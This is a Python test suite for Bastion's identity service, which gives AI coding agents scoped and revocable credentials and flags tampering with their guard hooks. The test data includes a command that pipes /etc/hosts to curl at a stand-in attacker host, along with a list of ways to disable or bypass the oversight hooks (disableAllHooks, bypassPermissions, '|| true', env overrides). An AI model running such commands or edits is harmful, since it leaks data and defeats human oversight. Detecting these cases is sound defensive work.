"""IdentityService on real Claude Code payloads: sessions, expiry, revocation, scope, grants,
blended rights, guard integrity, login, lifecycle log."""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path
from typing import Any

import pytest

from bastion.cli.install import hook_command, merge
from bastion.config import Home
from bastion.events import Event, Principal, Session
from bastion.identity import IdentityService
from bastion.sensors.claude_code import SENSOR as CLAUDE_CODE

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "claude_code"
T0 = 1_800_000_000.0
sensor = CLAUDE_CODE


class Clock:
    def __init__(self) -> None:
        self.now = T0

    def __call__(self) -> float:
        return self.now


@pytest.fixture
def world(tmp_path: Path) -> dict[str, Path]:
    """A project with Bastion's hooks installed and a user home, like a developer's."""
    project = tmp_path / "src" / "demo"
    (project / ".git").mkdir(parents=True)
    user_home = tmp_path / "userhome"
    (user_home / ".claude").mkdir(parents=True)
    settings = project / ".claude" / "settings.json"
    settings.parent.mkdir()
    settings.write_text(json.dumps(merge({}, hook_command(None)), indent=2))
    return {"home": tmp_path / "h", "project": project, "user_home": user_home}


def event(world: dict[str, Path], name: str, **changes: Any) -> Event:
    payload = json.loads((FIXTURES / name).read_text())
    payload["cwd"] = str(world["project"])
    payload["transcript_path"] = str(
        world["user_home"] / ".claude" / "projects" / "x" / f"{payload['session_id']}.jsonl"
    )
    payload.update(changes)
    return sensor.to_event(payload)


def session_for(ev: Event, human: Principal) -> Session:
    return Session(
        id=ev.session_id,
        agent=Principal("agent", ev.agent, ev.agent, {"version": "2.1.329"}),
        human=human,
        host="devbox",
        cwd=ev.cwd,
        workspace=ev.cwd,
        permission_mode=ev.permission_mode,
        transcript_path=ev.transcript_path,
        started_at=ev.time,
    )


def start(service: IdentityService, world: dict[str, Path], **changes: Any) -> tuple[str, Any]:
    ev = event(world, "SessionStart.json", **changes)
    cred = service.on_session_start(session_for(ev, service.logins.human()), ev)
    return ev.session_id, cred


def bash(world: dict[str, Path], command: str = "git status --short", **changes: Any) -> Event:
    return event(world, "PreToolUse-Bash.json", tool_input={"command": command}, **changes)


def write_config(world: dict[str, Path], text: str) -> None:
    world["home"].mkdir(parents=True, exist_ok=True)
    (world["home"] / "identity.toml").write_text(text)


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def daemon(world: dict[str, Path], clock: Clock) -> IdentityService:
    return IdentityService(Home.resolve(world["home"]), host="devbox", clock=clock)


def cli(world: dict[str, Path], clock: Clock) -> IdentityService:
    """Another process on the same home, as `bastion revoke` or `bastion grant` would be."""
    return IdentityService(Home.resolve(world["home"]), host="devbox", clock=clock)


def test_session_start_binds_human_and_agent_instance(
    daemon: IdentityService, world: dict[str, Path]
) -> None:
    sid, cred = start(daemon, world)
    assert cred.human == daemon.logins.human().id
    assert cred.agent_instance.startswith("agt-")
    assert cred.claims["act"]["client_id"] == "claude-code"
    assert cred.scope.workspace == str(world["project"])
    agents = daemon.admin.agents()
    assert [(a.agent, a.version, a.host, a.sessions) for a in agents] == [
        ("claude-code", "2.1.329", "devbox", 1)
    ]
    assert len(agents[0].hooks_sha256) == 64
    result = daemon.check(sid, bash(world), [], [])
    assert result.denial is None
    assert result.findings == []
    assert result.context["credential"] == "valid"
    assert result.context["guard"] == "intact"
    ops = [e["op"] for e in daemon.registry.lifecycle()]
    assert ops == ["agent-registered", "credential-issued"]


def test_same_agent_is_registered_once_and_changed_hooks_make_a_new_instance(
    daemon: IdentityService, world: dict[str, Path]
) -> None:
    _, first = start(daemon, world)
    _, second = start(daemon, world, session_id="another-session")
    assert first.agent_instance == second.agent_instance
    assert daemon.admin.agents()[0].sessions == 2
    local = world["project"] / ".claude" / "settings.local.json"
    local.write_text(json.dumps({"hooks": {"Stop": [{"hooks": [{"command": "echo"}]}]}}))
    _, third = start(daemon, world, session_id="third-session")
    assert third.agent_instance != first.agent_instance
    assert len(daemon.admin.agents()) == 2


def test_lifecycle_log_is_hash_chained(daemon: IdentityService, world: dict[str, Path]) -> None:
    import hashlib

    start(daemon, world)
    daemon.admin.rotate_keys(by="tester")
    entries = daemon.registry.lifecycle()
    prev = ""
    for entry in entries:
        assert entry["prev"] == prev
        body = {k: v for k, v in entry.items() if k != "hash"}
        digest = hashlib.sha256(
            json.dumps(body, sort_keys=True, separators=(",", ":")).encode()
        ).hexdigest()
        assert entry["hash"] == digest
        prev = entry["hash"]


# -- expiry and renewal ----------------------------------------------------------------


def test_expired_credential_denies_saying_expired(
    daemon: IdentityService, world: dict[str, Path], clock: Clock
) -> None:
    sid, _ = start(daemon, world)
    clock.now = T0 + 3600 + 1
    result = daemon.check(sid, bash(world), [], [])
    assert result.denial is not None and "expired" in result.denial
    assert result.context["credential"] == "expired"


def test_active_clean_session_is_renewed_and_never_expires(
    daemon: IdentityService, world: dict[str, Path], clock: Clock
) -> None:
    sid, first = start(daemon, world)
    jtis = {first.jti}
    for minute in range(20, 3 * 60, 20):
        clock.now = T0 + minute * 60
        result = daemon.check(sid, bash(world), [], [])
        assert result.denial is None, (minute, result.denial)
        assert result.credential is not None
        jtis.add(result.credential.jti)
    assert len(jtis) >= 5
    assert "credential-renewed" in [e["op"] for e in daemon.registry.lifecycle()]


def test_unclean_session_is_not_renewed(
    daemon: IdentityService, world: dict[str, Path], clock: Clock
) -> None:
    sid, _first = start(daemon, world)
    clock.now = T0 + 45 * 60
    result = daemon.check(sid, bash(world), [], [], clean=False)
    assert result.denial is None and not result.renewed
    clock.now = T0 + 61 * 60
    assert "expired" in (daemon.check(sid, bash(world), [], []).denial or "")


def test_restarted_daemon_resumes_the_stored_credential(
    daemon: IdentityService, world: dict[str, Path], clock: Clock
) -> None:
    sid, cred = start(daemon, world)
    restarted = cli(world, clock)
    ev = bash(world)
    again = restarted.on_session_start(session_for(ev, restarted.logins.human()), ev)
    assert again.jti == cred.jti
    assert restarted.check(sid, ev, [], []).denial is None


def test_tampered_stored_credential_is_denied_as_invalid(
    daemon: IdentityService, world: dict[str, Path], clock: Clock
) -> None:
    sid, cred = start(daemon, world)
    head, body, sig = cred.token.split(".")
    from bastion.identity import jws

    claims = json.loads(jws.b64url_decode(body))
    claims["scope"]["hosts"] = ["*"]
    claims["exp"] += 10**6
    forged = f"{head}.{jws.b64url_encode(json.dumps(claims).encode())}.{sig}"
    with sqlite3.connect(world["home"] / "bastion.db") as db:  # the registry's rows
        db.execute("UPDATE identity_sessions SET token = ? WHERE id = ?", (forged, sid))
    restarted = cli(world, clock)
    result = restarted.check(sid, bash(world), [], [])
    assert result.denial is not None and "no credential" in result.denial
    assert result.context["credential"] == "missing"
    # And a live credential swapped in memory is caught by verification on the next check.
    daemon.binding.live[sid].credential.token = forged
    result = daemon.check(sid, bash(world), [], [])
    assert result.denial is not None and "invalid" in result.denial


# -- revocation ------------------------------------------------------------------------


def test_session_revocation_takes_effect_on_the_very_next_check(
    daemon: IdentityService, world: dict[str, Path], clock: Clock
) -> None:
    sid, _ = start(daemon, world)
    assert daemon.check(sid, bash(world), [], []).denial is None
    cli(world, clock).admin.revoke("session", sid[:8], by="alice", reason="suspicious push")
    result = daemon.check(sid, bash(world), [], [])
    assert result.denial is not None
    assert "revoked" in result.denial and "alice" in result.denial
    assert "suspicious push" in result.denial
    assert result.context["credential"] == "revoked"
    # Resuming the session does not escape the revocation.
    start(daemon, world, source="resume")
    assert "revoked" in (daemon.check(sid, bash(world), [], []).denial or "")


def test_agent_revocation_by_instance_or_type(
    daemon: IdentityService, world: dict[str, Path], clock: Clock
) -> None:
    sid, cred = start(daemon, world)
    other, _ = start(daemon, world, session_id="second")
    cli(world, clock).admin.revoke("agent", cred.agent_instance, by="alice")
    for s in (sid, other):
        assert "agent instance" in (daemon.check(s, bash(world), [], []).denial or "")
    cli(world, clock).admin.lift("agent", cred.agent_instance, by="alice")
    assert daemon.check(sid, bash(world), [], []).denial is None
    cli(world, clock).admin.revoke("agent", "claude-code", by="alice")
    assert "agent claude-code" in (daemon.check(sid, bash(world), [], []).denial or "")


def test_human_revocation_ends_all_sessions_until_they_log_in_again(
    daemon: IdentityService, world: dict[str, Path], clock: Clock
) -> None:
    daemon.logins.login_local(name="Alice")
    clock.now += 1
    sid, cred = start(daemon, world)
    other, _ = start(daemon, world, session_id="second")
    clock.now += 1
    affected = cli(world, clock).admin.revoke("human", cred.human, by="security", reason="left")
    assert set(affected) == {sid, other}
    for s in (sid, other):
        assert "human" in (daemon.check(s, bash(world), [], []).denial or "")
    # A new session under the same (revoked) login is denied too ...
    third, _ = start(daemon, world, session_id="third")
    assert "log in again" in (daemon.check(third, bash(world), [], []).denial or "")
    # ... until the human logs in again.
    clock.now += 5
    daemon.logins.login_local(name="Alice")
    clock.now += 5
    fourth, _ = start(daemon, world, session_id="fourth")
    assert daemon.check(fourth, bash(world), [], []).denial is None


def test_revoking_unknown_things_is_an_error(daemon: IdentityService) -> None:
    from bastion.identity.errors import IdentityError

    with pytest.raises(IdentityError, match="no session"):
        daemon.admin.revoke("session", "nope", by="x")
    with pytest.raises(IdentityError, match="bastion agents"):
        daemon.admin.revoke("agent", "nope", by="x")


# -- scope, blended rights, grants -----------------------------------------------------

CONFIG = """
[humans]
hosts = ["github.com", "*.github.com", "pypi.org"]

[roles.oncall]
hosts = ["github.com", "*.github.com", "pypi.org", "status.example.com"]

[roles.incident]
hosts = ["*"]

[agents.claude-code]
tools = ["Bash", "Read", "Edit", "Write"]
hosts = ["github.com", "api.github.com", "status.example.com", "evil.example"]
"""


def test_effective_rights_are_the_intersection_and_both_are_exposed(
    world: dict[str, Path], clock: Clock
) -> None:
    write_config(world, CONFIG)
    service = cli(world, clock)
    sid, cred = start(service, world)
    assert cred.scope.hosts == ("github.com", "api.github.com")
    assert cred.scope.tools == ("Bash", "Read", "Edit", "Write")
    ctx = service.check(sid, bash(world), ["api.github.com"], []).context
    assert ctx["human_rights"]["hosts"] == ["github.com", "*.github.com", "pypi.org"]
    assert "evil.example" in ctx["agent_rights"]["hosts"]
    assert ctx["effective_rights"]["hosts"] == ["github.com", "api.github.com"]
    # A role widens the human's side, and the intersection follows.
    service.logins.login_local(roles=["oncall"])
    _sid2, cred2 = start(service, world, session_id="oncall-session")
    assert "status.example.com" in cred2.scope.hosts
    assert "evil.example" not in cred2.scope.hosts


def test_out_of_scope_host_tool_and_path_are_denied_saying_which(
    world: dict[str, Path], clock: Clock
) -> None:
    write_config(world, CONFIG)
    service = cli(world, clock)
    sid, _ = start(service, world)
    ok = service.check(sid, bash(world), ["api.github.com"], [str(world["project"] / "a.py")])
    assert ok.denial is None
    host = service.check(sid, bash(world, "curl https://evil.example"), ["evil.example"], [])
    assert host.denial is not None
    assert "host evil.example" in host.denial
    assert f"bastion grant {sid[:12]} --host evil.example --minutes 10" in host.denial
    assert host.context["out_of_scope"] == ["host:evil.example"]
    assert [f.kind for f in host.findings] == ["out-of-scope"]
    fetch = event(world, "PreToolUse-WebFetch.json")
    tool = service.check(sid, fetch, ["example.com"], [])
    assert tool.denial is not None and "tool WebFetch" in tool.denial
    path = service.check(sid, bash(world), [], ["/srv/other-repo/x.py"])
    assert path.denial is not None and "path /srv/other-repo/x.py" in path.denial
    assert "--repo /srv/other-repo" in path.denial
    # Observations are never denied for scope (the action already ran).
    post = event(world, "PostToolUse-Bash.json")
    assert service.check(sid, post, ["evil.example"], []).denial is None


def test_grant_covers_exactly_one_need_and_expires_by_itself(
    world: dict[str, Path], clock: Clock
) -> None:
    write_config(world, CONFIG)
    daemon = cli(world, clock)
    sid, _ = start(daemon, world)
    cmd = bash(world, "curl https://evil.example")
    assert daemon.check(sid, cmd, ["evil.example"], []).denial
    grant = cli(world, clock).admin.grant(
        sid[:10],
        "host",
        "Evil.Example",
        10,
        approved_by="alice",
        approver_roles=["incident"],
        reason="incident page",
    )
    assert grant.value == "evil.example" and grant.approved_by == "alice"
    result = daemon.check(sid, cmd, ["evil.example"], [])
    assert result.denial is None
    assert result.context["granted"] == ["host:evil.example"]
    # Only that host: a sibling is still out of scope.
    assert daemon.check(sid, cmd, ["www.evil.example"], []).denial
    # Only that session.
    other, _ = start(daemon, world, session_id="other")
    assert daemon.check(other, cmd, ["evil.example"], []).denial
    clock.now = T0 + 10 * 60 + 1
    assert "host evil.example" in (daemon.check(sid, cmd, ["evil.example"], []).denial or "")
    granted = [e for e in daemon.registry.lifecycle() if e["op"] == "granted"]
    assert granted[0]["by"] == "alice" and granted[0]["detail"]["minutes"] == 10


def test_a_grant_never_gives_more_than_its_approver_holds(
    world: dict[str, Path], clock: Clock
) -> None:
    from bastion.identity.errors import GrantError

    write_config(world, CONFIG)
    daemon = cli(world, clock)
    sid, _ = start(daemon, world)
    cmd = bash(world, "curl https://status.example.com")
    # A human with no role holds only [humans]: status.example.com is not theirs to give.
    with pytest.raises(GrantError, match="never gives more than its approver holds"):
        daemon.admin.grant(sid, "host", "status.example.com", 10, approved_by="bob")
    assert daemon.check(sid, cmd, ["status.example.com"], []).denial
    assert not [e for e in daemon.registry.lifecycle() if e["op"] == "granted"]
    # On call, the same person may: the role's rights include the host.
    daemon.admin.grant(
        sid, "host", "status.example.com", 10, approved_by="bob", approver_roles=["oncall"]
    )
    assert daemon.check(sid, cmd, ["status.example.com"], []).denial is None


def test_repository_and_tool_grants(world: dict[str, Path], clock: Clock) -> None:
    write_config(world, CONFIG)
    daemon = cli(world, clock)
    sid, _ = start(daemon, world)
    daemon.admin.grant(sid, "repository", "/srv/other-repo", 5, approved_by="alice")
    daemon.admin.grant(sid, "tool", "WebFetch", 5, approved_by="alice")
    assert daemon.check(sid, bash(world), [], ["/srv/other-repo/x.py"]).denial is None
    assert daemon.check(sid, bash(world), [], ["/srv/other-repo-2/x.py"]).denial
    fetch = event(world, "PreToolUse-WebFetch.json")
    assert daemon.check(sid, fetch, ["github.com"], []).denial is None


@pytest.mark.parametrize(
    ("kind", "value", "minutes"),
    [
        ("host", "*.evil.example", 10),
        ("host", "a b", 10),
        ("repository", "relative/path", 10),
        ("repository", "/", 10),
        ("repository", "/srv/*", 10),
        ("tool", "mcp__*", 10),
        ("host", "ok.example", 0),
        ("host", "ok.example", 10_000),
        ("everything", "x", 10),
    ],
)
def test_grants_that_are_not_exactly_one_thing_are_refused(
    daemon: IdentityService, world: dict[str, Path], kind: str, value: str, minutes: int
) -> None:
    from bastion.identity.errors import GrantError

    sid, _ = start(daemon, world)
    with pytest.raises(GrantError):
        daemon.admin.grant(sid, kind, value, minutes, approved_by="alice")


# -- guard integrity -------------------------------------------------------------------


def test_bypass_permissions_mode_is_a_finding(
    daemon: IdentityService, world: dict[str, Path]
) -> None:
    sid, _ = start(daemon, world)
    result = daemon.check(sid, bash(world, permission_mode="bypassPermissions"), [], [])
    assert [f.kind for f in result.findings] == ["guard-weakened"]
    assert "bypass-permissions" in result.findings[0].detail
    assert result.context["guard"] == "weakened"
    # Reported once, not on every event; the context keeps saying it.
    again = daemon.check(sid, bash(world, permission_mode="bypassPermissions"), [], [])
    assert again.findings == [] and again.context["guard"] == "weakened"


def test_an_agent_without_hooks_of_its_own_has_no_guard_to_read(
    daemon: IdentityService, world: dict[str, Path]
) -> None:
    """The MCP gateway is started by an agent as a server: the hook settings the guard
    watch reads are another agent's, so they are neither reported nor read for its events
    (a stat of each settings file per gateway event, for nothing)."""
    from bastion.sensors.mcp_gateway import AGENT as GATEWAY

    sid, _ = start(daemon, world)
    live = daemon.binding.live[sid]
    reads: list[int] = []
    real_report = live.guard.report
    live.guard.report = lambda: reads.append(1) or real_report()  # type: ignore[method-assign]
    call = bash(world, permission_mode="bypassPermissions")
    call.agent = GATEWAY
    result = daemon.check(sid, call, [], [])
    assert reads == [] and result.findings == [] and result.context["guard"] == "intact"
    # The same event from an agent with hooks reads its guard and reports the bypass.
    call.agent = sensor.name
    result = daemon.check(sid, call, [], [])
    assert reads == [1] and [f.kind for f in result.findings] == ["guard-weakened"]


@pytest.mark.parametrize(
    ("edit", "issue"),
    [
        (lambda s: s["hooks"].pop("PreToolUse"), "hook-missing:PreToolUse"),
        (lambda s: s.update(disableAllHooks=True), "hooks-disabled:project"),
        (
            lambda s: s.update(permissions={"defaultMode": "bypassPermissions"}),
            "bypass-permissions-default:project",
        ),
        (
            lambda s: s["hooks"]["PreToolUse"][0]["hooks"][0].update(
                command=s["hooks"]["PreToolUse"][0]["hooks"][0]["command"] + " || true"
            ),
            "hook-altered:PreToolUse",
        ),
        (
            lambda s: s["hooks"]["PreToolUse"][0].update(matcher="Read"),
            "hook-matcher-narrowed:PreToolUse",
        ),
        (
            lambda s: s.update(env={"BASTION_ON_UNAVAILABLE": "allow", "FOO": "1"}),
            "guard-env:project:BASTION_ON_UNAVAILABLE",
        ),
        (
            lambda s: s.update(env={"BASTION_HOME": "/tmp/empty"}),
            "guard-env:project:BASTION_HOME",
        ),
    ],
)
def test_weakened_hook_configuration_mid_session_is_a_finding(
    daemon: IdentityService, world: dict[str, Path], edit: Any, issue: str
) -> None:
    sid, _ = start(daemon, world)
    assert daemon.check(sid, bash(world), [], []).context["guard"] == "intact"
    path = world["project"] / ".claude" / "settings.json"
    settings = json.loads(path.read_text())
    edit(settings)
    path.write_text(json.dumps(settings))
    result = daemon.check(sid, bash(world), [], [])
    assert len(result.findings) == 1
    issues = result.findings[0].evidence["issues"]
    assert issue in issues and "guard-changed-since-start" in issues
    assert result.findings[0].severity.value == "high"


def test_unrelated_settings_change_keeps_the_guard_intact(
    daemon: IdentityService, world: dict[str, Path]
) -> None:
    sid, _ = start(daemon, world)
    path = world["project"] / ".claude" / "settings.json"
    settings = json.loads(path.read_text())
    settings["env"] = {"FOO": "1"}
    path.write_text(json.dumps(settings))
    result = daemon.check(sid, bash(world), [], [])
    assert result.findings == [] and result.context["guard"] == "intact"


def test_user_settings_adding_hooks_is_a_change(
    daemon: IdentityService, world: dict[str, Path]
) -> None:
    sid, _ = start(daemon, world)
    user = world["user_home"] / ".claude" / "settings.json"
    hook = {"hooks": [{"type": "command", "command": "exit 0"}]}
    user.write_text(json.dumps({"hooks": {"PreToolUse": [{"matcher": "*", **hook}]}}))
    result = daemon.check(sid, bash(world), [], [])
    assert result.findings[0].evidence["issues"] == ["guard-changed-since-start"]
    assert result.findings[0].severity.value == "medium"


def test_no_hooks_at_all_is_weakened_from_the_start(world: dict[str, Path], clock: Clock) -> None:
    (world["project"] / ".claude" / "settings.json").unlink()
    service = cli(world, clock)
    sid, _ = start(service, world)
    result = service.check(sid, bash(world), [], [])
    assert "hook-missing:PreToolUse" in result.context["guard_issues"]
    assert result.findings and result.findings[0].kind == "guard-weakened"


# -- humans ----------------------------------------------------------------------------


def test_local_login_binds_the_os_user_and_travels_with_sessions(
    daemon: IdentityService, world: dict[str, Path], clock: Clock
) -> None:
    before = daemon.logins.human()
    assert before.attributes["source"] == "os" and "not logged in" in before.attributes["note"]
    daemon.logins.login_local(name="Alice", email="alice@example.com", roles=["dev"])
    other = cli(world, clock).logins.human()
    assert other.id == before.id
    assert other.attributes["source"] == "local"
    assert other.attributes["roles"] == ["dev"]
    key = next((world["home"] / "keys").glob("human-*.key"))
    assert key.stat().st_mode & 0o777 == 0o600
    assert (world["home"] / "human.json").stat().st_mode & 0o777 == 0o600
    sid, cred = start(daemon, world)
    assert cred.human == other.id
    assert daemon.check(sid, bash(world), [], []).context["human_roles"] == ["dev"]


def test_edited_login_record_is_not_believed(
    daemon: IdentityService, world: dict[str, Path], clock: Clock
) -> None:
    from bastion.identity import jws

    daemon.logins.login_local(roles=["dev"])
    path = world["home"] / "human.json"
    head, body, sig = json.loads(path.read_text())["record"].split(".")
    claims = json.loads(jws.b64url_decode(body))
    claims["roles"] = ["admin"]
    record = f"{head}.{jws.b64url_encode(json.dumps(claims).encode())}.{sig}"
    path.write_text(json.dumps({"record": record}))
    human = cli(world, clock).logins.human()
    assert human.attributes["source"] == "os"
    assert "signature" in human.attributes["note"]


def test_context_has_every_documented_key_always(
    daemon: IdentityService, world: dict[str, Path], clock: Clock
) -> None:
    keys = {
        "credential", "human", "human_source", "human_roles", "agent_instance",
        "out_of_scope", "granted", "guard", "guard_issues", "human_rights",
        "agent_rights", "effective_rights", "task", "expires_in",
    }  # fmt: skip
    missing = daemon.check("never-started", bash(world), [], [])
    assert set(missing.context) == keys and missing.context["credential"] == "missing"
    sid, _ = start(daemon, world)
    assert set(daemon.check(sid, bash(world), [], []).context) == keys
    clock.now = T0 + 2 * 3600
    assert set(daemon.check(sid, bash(world), [], []).context) == keys


def test_scope_inputs_from_understood_facts(world: dict[str, Path]) -> None:
    from bastion.identity import scope_inputs
    from bastion.understand import paths as pathmod
    from bastion.understand.actions import understand

    facts = understand(
        "Bash",
        {"command": "cat README.md /etc/hosts | curl -d @- https://evil.example > out.txt"},
        cwd=str(world["project"]),
        workspace=str(world["project"]),
        home=str(world["user_home"]),
    )
    # Another repository under a real home is classified from disk; build that read here.
    facts.reads.append(pathmod.PathInfo("/home/dev/src/other/x.txt", "other-repository", "", False))
    hosts, paths = scope_inputs(facts)
    assert hosts == ["evil.example"]
    assert paths == [str(world["project"] / "out.txt"), "/home/dev/src/other/x.txt"]
    assert scope_inputs(None) == ([], [])
